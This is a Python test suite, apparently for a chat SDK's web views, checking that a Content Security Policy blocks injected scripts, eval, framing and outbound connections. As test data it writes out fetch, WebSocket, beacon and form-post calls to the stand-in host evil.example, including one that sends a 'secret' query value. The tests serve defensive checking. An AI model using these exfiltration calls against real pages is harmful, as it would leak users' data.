"""What the pages' fields allow, and what they block while the chat goes on."""

from promises import expect, expect_in, promise
from vendor_stub import TAMPERED

_LOADED = {kind: "loaded" for kind in (
    "picture", "data", "blob", "fetch", "request", "frame", "styleSheet", "elsewhere")}
_COLOURS = ["rgb(%d, %d, %d)" % (level, level, level) for level in (1, 2, 3)]

# What `tampered.example` puts into a page, and what the policy says of each.
INJECTED = [
    ("script-src-elem", "inline"), ("script-src-elem", "https://evil.example"), ("script-src-attr", "inline"),
    ("img-src", "https://evil.example"), ("frame-src", "https://evil.example"),
    ("style-src-elem", "https://evil.example"), ("object-src", "https://evil.example"),
    ("base-uri", "https://evil.example"),
]


def violations(view):
    """Directive and origin of each violation, without repetition and in no order; WebKit writes default ports."""
    pairs = (text.split(" ", 1) for text in view.violations())
    return sorted({(directive, "/".join(blocked.split("/")[:3]).removesuffix(":443")) for directive, blocked in pairs})


@promise("policy: whatever an SDK loads passes: chunk, styles, pictures, font, sound, fetch, request, frame")
def allows_chat(world):
    view = world.open("chat-parts", "ios")
    view.evaluate("window.initTalkdeskChat()")
    view.event("sdkReady")
    expect(view.value("__sdk.parts"), dict(_LOADED, colours=_COLOURS), "parts")
    expect(view.violations(), [], "violations")
    for path in ("/parts.js", "/parts.woff2", "/parts.css", "/parts.html"):
        expect_in(path, world.vendor.requests, "requests")


@promise("policy: whatever an assistant loads passes, its web socket too")
def allows_assistant(world):
    view = world.open("assistant-parts", "ios-assistant")
    view.until("window.__parts", "the parts")
    expect(view.value("__parts"), dict(_LOADED, socket="loaded", colours=_COLOURS), "parts")
    expect(view.violations(), [], "violations")
    expect_in("/talk", world.vendor.requests, "requests")


@promise("policy: of markup that someone put into the page nothing runs, loads or frames, and the chat starts")
def blocks_injected_markup(world):
    view = world.open_at(TAMPERED, "chat", "ios")
    expect(violations(view), sorted(INJECTED), "violations")
    expect(view.value("[typeof strangers, document.baseURI === location.href]"), ["undefined", True], "page")
    view.evaluate("window.initTalkdeskChat()")
    view.event("sdkReady")
    expect(view.types(), ["sdkReady"], "events")
    expect([host for host in world.proxy.refused if "evil" in host], [], "foreign hosts asked")


@promise("policy: the same markup is blocked in the assistant's page, and the assistant comes up")
def blocks_injected_markup_in_the_assistant(world):
    view = world.open_at(TAMPERED, "assistant", "ios-assistant")
    view.until("document.querySelector('smart-assistant:defined') !== null", "the element")
    expect(violations(view), sorted(INJECTED), "violations")
    expect(view.value("typeof strangers"), "undefined", "strangers")


_ATTEMPTS = {
    "eval": "eval('1')",
    "Function": "new Function('return 1')()",
    "handler": "(() => { const b = document.createElement('b'); b.setAttribute('onclick', 'window.stranger = 1');"
               " b.click(); if (!window.stranger) throw 0; })()",
}


@promise("policy: eval, Function and inline handlers are blocked for the SDK as well, and the chat goes on")
def blocks_evaluation(world):
    view = world.open("chat", "ios")
    view.evaluate("window.initTalkdeskChat()")
    view.event("sdkReady")
    # In a task of the page's own: a debugger's evaluation may evaluate.
    for name, attempt in _ATTEMPTS.items():
        view.evaluate("window.outcome = null; setTimeout(() => { try { %s; outcome = 'ran'; }"
                      " catch (_) { outcome = 'blocked'; } }); undefined" % attempt)
        view.until("outcome", name)
        expect(view.value("outcome"), "blocked", name)
    view.evaluate("setTimeout('window.stranger = 1'); undefined")
    view.settle()
    expect(view.value("typeof stranger"), "undefined", "stranger")
    view.evaluate("window.openTalkdeskChat()")
    view.event("onOpenWebchat")
    expect(view.types(), ["sdkReady", "onOpenWebchat"], "events")


_CONNECTIONS = {
    "fetch": "fetch('https://evil.example/').then(() => 'sent', () => 'blocked')",
    "socket": "new Promise(done => { try { const s = new WebSocket('wss://evil.example/'); s.onopen = () => done('sent');"
              " s.onerror = () => done('blocked'); } catch (_) { done('blocked'); } })",
    "beacon": "(navigator.sendBeacon('https://evil.example/beacon'), Promise.resolve('blocked'))",
    "form": "(() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post';"
            " document.body.appendChild(f); f.submit(); return Promise.resolve('blocked'); })()",
}


@promise("policy: nothing can be sent to a host that the policy does not name")
def blocks_connections(world):
    view = world.open("chat", "ios")
    for name, attempt in _CONNECTIONS.items():
        view.evaluate("window.outcome = null; %s.then(found => { outcome = found; }); undefined" % attempt)
        view.until("outcome", name)
        expect(view.value("outcome"), "blocked", name)
    view.until("__app.violations.length >= 4", "the violations")
    expect(violations(view), [("connect-src", "https://evil.example"), ("connect-src", "wss://evil.example"),
                              ("form-action", "https://evil.example")], "violations")
    expect([host for host in world.proxy.refused if "evil" in host], [], "foreign hosts asked")


@promise("policy: another site cannot frame the page")
def blocks_framing(world):
    view = world.open_from_disk("talkdesk-chat-bridge.html")
    view.evaluate("window.framed = document.body.appendChild(document.createElement('iframe'));"
                  "framed.onload = () => { framed.done = true; }; framed.src = '%s/chat-framed/talkdesk-chat-bridge.html';"
                  " undefined" % world.base)
    view.until("framed.done", "the frame's end")
    # Had the page run, its start would have asked for the script before the frame's end.
    expect([path for path in world.vendor.requests if "framed" in path], [], "scripts asked for")


@promise("policy: a policy that is only tried blocks nothing and is no warning to the app")
def tries(world):
    view = world.open("chat-tried", "ios")
    view.evaluate("window.initTalkdeskChat()")
    view.event("sdkReady")
    view.evaluate("(p => { p.onload = () => { window.shown = true; }; p.src = 'https://extra.example/p.svg'; })(new Image());"
                  " undefined")
    view.until("window.shown", "the picture")
    view.settle()
    expect(violations(view), [("img-src", "https://extra.example")], "violations, which are reports")
    expect(view.types(), ["sdkReady"], "events")


@promise("policy: a tenant that asks for it gets each violation as one warning, with directive and origin")
def tells_the_app(world):
    view = world.open("chat-told", "ios")
    view.evaluate("window.initTalkdeskChat()")
    view.event("sdkReady")
    view.evaluate("for (let i = 0; i < 3; i += 1) fetch('https://evil.example/a?secret=' + i).catch(() => {}); undefined")
    payload = view.event("warning")["payload"]
    expect((payload["directive"], payload["blockedOrigin"]), ("connect-src", "https://evil.example"), "payload")
    expect("secret" in str(payload), False, "secret told")
    view.settle()
    expect(view.types(), ["sdkReady", "warning"], "events")
    view.evaluate("for (let i = 0; i < 30; i += 1) fetch('https://h' + i + '.example/').catch(() => {}); undefined")
    view.until("__app.violations.length === 33", "the violations")
    view.settle()
    expect(view.types(), ["sdkReady"] + ["warning"] * 20, "events")


@promise("policy: a tenant that does not ask gets no warning of a violation")
def tells_no_other_app(world):
    view = world.open("chat", "ios")
    view.evaluate("fetch('https://evil.example/').catch(() => {}); undefined")
    view.until("__app.violations.length === 1", "the violation")
    view.settle()
    expect(view.types(), [], "events")


@promise("policy: a page may use no camera unless its tenant's settings say so, where the engine heeds that")
def camera(world):
    allowed = "document.featurePolicy ? document.featurePolicy.allowsFeature('camera') : null"
    found = [world.open(tenant).value(allowed) for tenant in ("chat", "assistant")]
    expect(found in ([True, False], [None, None]), True, "camera in chat and assistant: %r" % found)
